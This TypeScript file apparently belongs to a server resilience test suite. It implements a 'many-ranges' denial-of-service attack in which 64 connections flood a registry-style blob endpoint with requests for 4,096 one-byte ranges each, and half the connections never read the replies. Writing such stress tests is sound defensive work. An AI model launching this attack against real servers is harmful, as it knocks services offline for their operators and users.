/** Thousands of tiny ranges in one request: a response's cost depends on its parts, not its bytes. */
import { createHash } from "node:crypto";
import type { Attack, AttackTarget } from "./attack.js";
import { ended, open, send } from "./sockets.js";

const connections = 64;
/** The maximum of a request. */
const ranges = 4096;
const blob = Buffer.alloc(4 * 1024 * 1024, "many ranges ");
const digest = `sha256:${createHash("sha256").update(blob).digest("hex")}`;

/** Far apart, so that each is read separately. */
const step = Math.floor(blob.length / ranges);
const header = `bytes=${Array.from({ length: ranges }, (_, at) => (at * step).toString()).map((at) => `${at}-${at}`)}`;

async function request(target: AttackTarget, read: boolean): Promise<void> {
  while (!target.signal.aborted) {
    const socket = open(target);
    if (!read) socket.pause();
    const head = `GET /v2/attack/blobs/${digest} HTTP/1.1\r\nHost: localhost\r\n`;
    const lines = [`${head}Range: ${header}\r\n\r\n`];
    await send(socket, lines);
    await Promise.race([read ? answered(socket) : ended(socket), ended(socket)]);
    socket.destroy();
  }
}

/** Resolves when the response has arrived, to the end of its last part. */
function answered(socket: ReturnType<typeof open>): Promise<void> {
  return new Promise((resolve) => {
    socket.on("data", (chunk: Buffer) => {
      if (chunk.subarray(-4).toString("latin1") === "--\r\n") resolve();
    });
  });
}

export const manyRanges: Attack = {
  name: "many-ranges",
  what: "64 connections request 4,096 ranges of one byte repeatedly, and half of them read nothing",
  waitMillisecondsMax: 100,
  prepare: async (target) => {
    const socket = open(target);
    await send(socket, [
      `POST /v2/attack/blobs/uploads/?digest=${digest} HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${blob.length}\r\n\r\n`,
    ]);
    const created = new Promise<void>((resolve) => void socket.once("data", () => resolve()));
    socket.write(blob);
    await created;
    socket.destroy();
  },
  run: async (target) => {
    await Promise.all(Array.from({ length: connections }, (_, number) => request(target, number % 2 === 0)));
  },
};
